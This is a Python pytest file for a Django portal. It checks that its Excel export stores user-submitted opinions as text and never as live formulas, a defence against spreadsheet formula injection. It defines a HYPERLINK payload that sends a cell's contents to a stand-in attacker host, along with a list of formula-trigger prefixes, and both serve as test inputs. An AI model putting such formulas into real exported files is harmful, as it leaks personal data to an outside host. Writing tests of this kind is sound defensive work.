"""Issue 22, item 3: user text in any .xlsx the portal writes is text, never a formula (OWASP
"CSV injection"). A public opinion starting with `=HYPERLINK(...)` used to land in
/opinions/export.xlsx as a live formula."""

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from accounts.models import Role
from core.excel import Column, write_sheet
from tests.factories import CategoryFactory, StationFactory, TownshipFactory, UserFactory
from tests.opinions.factories import OpinionFactory

ATTACK = '=HYPERLINK("http://evil.example/?"&H2,"点此查看")'
TRIGGERS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def sheet_xml(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(
            archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")
        )


@pytest.mark.django_db
def test_a_public_opinion_starting_with_a_formula_is_exported_as_text(client):
    township = TownshipFactory(name="城关镇")
    station = StationFactory(name="城关镇代表联络站", township=township)
    OpinionFactory(station=station, category=CategoryFactory(name="交通出行"), content=ATTACK,
                   name="@SUM(1)", phone="13912345678")
    client.force_login(UserFactory(username="staff1", role=Role.STAFF))
    response = client.get("/opinions/export.xlsx")
    assert response.status_code == 200
    assert "<f>" not in sheet_xml(response.content)
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    assert cells[ATTACK].data_type == "s"
    assert cells["@SUM(1)"].data_type == "s"


@pytest.mark.parametrize("value", TRIGGERS)
def test_every_trigger_is_stored_as_text_by_the_shared_writer(value):
    workbook = Workbook(write_only=True)
    write_sheet(workbook, "表", [Column("text", "内容")], [[value], ["普通文字"], [42]])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert "<f>" not in sheet_xml(buffer.getvalue())
    sheet = load_workbook(buffer).active
    assert sheet["A2"].value == value and sheet["A2"].data_type == "s"
    assert sheet["A2"].quotePrefix
    # Ordinary text and numbers are untouched.
    assert not sheet["A3"].quotePrefix and sheet["A4"].value == 42
